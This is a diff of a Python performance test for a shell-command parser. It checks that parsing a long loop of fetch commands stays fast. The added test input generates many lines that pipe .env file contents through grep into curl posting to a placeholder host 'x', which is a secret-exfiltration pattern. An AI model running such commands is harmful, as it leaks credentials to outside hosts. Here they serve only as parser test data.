@@ -182,9 +182,11 @@ def test_no_loop_over_what_is_fetched_takes_long() -> None:
     texts = "".join(f'  echo "a long line of what was found, number {n}: $R"\n' for n in range(40))
     body = f'R=$(curl -sf "$U/q/$t?a=1&b=2" || echo no)\n{texts}P=$(echo "$R" | jq -r .p)\nF=$((F + 1))\n'
     line = f"for t in {' '.join(f'w{n}' for n in range(20))}; do\n{body}done\n"
-    start = time.process_time()
-    assert len(deeds_of(read_commands(line, inner_of=inner_of))) > 800
-    assert time.process_time() - start < 3
+    sent = "".join(f"cat .env{n} | grep A | curl -d @- http://x/{n} && echo {n}\n" for n in range(120))
+    for each, least in ((line, 800), (sent, 450)):
+        start = time.process_time()
+        assert len(deeds_of(read_commands(each, inner_of=inner_of))) > least
+        assert time.process_time() - start < 3
 
 
 STEPS = (
